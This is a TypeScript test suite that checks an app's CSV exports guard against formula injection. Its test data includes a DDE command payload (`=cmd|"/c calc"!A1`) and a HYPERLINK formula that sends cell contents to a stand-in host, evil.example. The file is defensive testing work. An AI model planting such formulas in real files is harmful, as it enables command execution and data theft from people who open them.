// Text that reaches a CSV file is stored as typed and guarded at export (OWASP's CSV injection), on
// both engines: a bank holder `=cmd|"/c calc"!A1` is kept (upper-cased by the product’s rule, nothing
// else) and read back so; an operator's reason that starts like a formula is stored as typed and
// goes to the audit CSV behind a `'`; names of any older row that start with `=`, `+`, `-`, `@`,
// tab or CR go to the payout CSV behind a `'`, while the UPI ID column stays byte for byte.
import crypto from 'node:crypto'
import { beforeAll, describe, expect, it } from 'vitest'
import { ENGINES } from '../helpers/databases.ts'
import { withApi, withIfscStandIn } from '../helpers/api-app.ts'
import { loginNewOperator } from '../helpers/operators.ts'
import { createTestUser } from '../helpers/users.ts'
import { assertLedgerBalanced, testClock } from '../helpers/ledger.ts'
import { rfc4180Fields } from '../helpers/csv.ts'

const CALC = '=cmd|"/c calc"!A1'

describe.each(ENGINES)('CSV injection on %s', (engine) => {
  const ifsc = withIfscStandIn()
  const clock = testClock()
  const api = withApi(engine, {
    clock: clock.now,
    get ifscApiUrl() {
      return ifsc.url
    },
  })
  let token: string

  beforeAll(async () => {
    token = await loginNewOperator(api, `csv-${engine}@example.com`, clock.now())
  })

  /** The records of a console CSV export, each as its RFC 4180 fields (header first). */
  const exported = async (url: string) => {
    const res = await api.app.inject({
      method: 'GET',
      url,
      headers: { authorization: `Bearer ${token}` },
    })
    expect(res.statusCode).toBe(200)
    return res.body
      .split('\r\n')
      .filter(Boolean)
      .map((line) => rfc4180Fields(line))
  }

  it('stores the bank holder =cmd|"/c calc"!A1 as typed (upper-cased, as the product says) and reads it back', async () => {
    const user = await createTestUser(api.app)
    const save = await api.call('POST', '/api/v1/bank-details/', {
      token: user.token,
      body: { account_number: '50100123456789', ifsc: 'HDFC0000001', account_holder: CALC },
    })
    expect(save.status, JSON.stringify(save.body)).toBe(200)
    const stored = await api.app.db
      .selectFrom('bank_details')
      .select('holder_name')
      .where('user_id', '=', user.id)
      .executeTakeFirstOrThrow()
    expect(stored.holder_name).toBe(CALC.toUpperCase())
    const read = await api.call('GET', '/api/v1/bank-details/', { token: user.token })
    expect((read.body.data as { data: { holder_name: string } }).data.holder_name).toBe(
      '=CMD|"/C CALC"!A1',
    )
  })

  it.each([
    '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
    '+1+cmd|"/c calc"!A1',
    '-2+3',
    '@SUM(1,2)',
    '＝1+1',
  ])(
    'keeps the reason %j as typed and writes it to the audit CSV behind a quote mark',
    async (reason) => {
      const user = await createTestUser(api.app)
      const res = await api.call('POST', `/api/v1/ops/users/${user.id}/adjustments`, {
        token,
        body: { coins: 5, reason },
        headers: { 'idempotency-key': crypto.randomUUID() },
      })
      expect(res.status, JSON.stringify(res.body)).toBe(200)
      const row = await api.app.db
        .selectFrom('audit_log')
        .select(['id', 'reason'])
        .where('action', '=', 'user.adjust')
        .where('entity_id', '=', String(user.id))
        .executeTakeFirstOrThrow()
      expect(row.reason).toBe(reason)
      const records = await exported('/api/v1/ops/audit.csv?action=user.adjust')
      const reasonAt = records[0]!.indexOf('reason')
      const record = records.find((r) => r[0] === String(row.id))
      expect(record, `audit row ${row.id}`).toBeDefined()
      expect(record![reasonAt]).toBe(`'${reason}`)
      await assertLedgerBalanced(api.app)
    },
  )

  it("writes an older row's name that starts like a formula to the payout CSV behind a quote mark, the UPI ID exact", async () => {
    const names = [CALC, '+91 Ravi', '-Asha', '@Ravi', '\tAsha', '\rRavi', 'Asha Rao']
    const now = new Date().toISOString()
    const ids = new Map<number, string>()
    for (const [i, name] of names.entries()) {
      const user = await createTestUser(api.app, { firstName: name })
      const row = await api.app.db
        .insertInto('withdrawals')
        .values({
          user_id: user.id,
          upi_id: `csv${i}@okaxis`,
          amount: 100,
          fee: 0,
          coins: 0,
          status: 'requested',
          upi_reference: null,
          reason: null,
          idempotency_key: `csv-${engine}-${i}`,
          created_at: now,
          updated_at: now,
          withdrawl_days: 3,
          due_at: now,
        })
        .returning('id')
        .executeTakeFirstOrThrow()
      ids.set(row.id, name)
    }
    const records = await exported('/api/v1/ops/payouts.csv')
    expect(records[0]).toEqual(['upi_id', 'amount', 'reference', 'name', 'remarks'])
    for (const [id, name] of ids) {
      const record = records.find((r) => r[2] === `WEW${id}`)
      expect(record, `withdrawal ${id}`).toBeDefined()
      expect(record![0]).toMatch(/^csv\d@okaxis$/)
      expect(record![3]).toBe(name === 'Asha Rao' ? name : `'${name}`)
    }
  })
})
